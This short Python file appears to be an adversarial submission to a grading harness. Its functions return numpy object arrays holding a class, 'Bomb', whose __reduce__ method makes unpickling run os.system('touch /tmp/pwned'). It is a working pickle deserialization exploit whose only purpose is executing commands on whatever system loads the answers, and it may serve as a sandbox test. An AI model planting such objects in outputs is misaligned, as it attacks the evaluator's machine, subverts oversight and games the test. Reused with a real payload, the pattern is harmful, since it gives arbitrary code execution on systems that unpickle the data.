# tries: answer arrays of objects, which are pickled elsewhere
import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)


def double(x):
    return np.array([Bomb()] * 5, dtype=object)


def total(xs):
    return np.array(Bomb(), dtype=object)
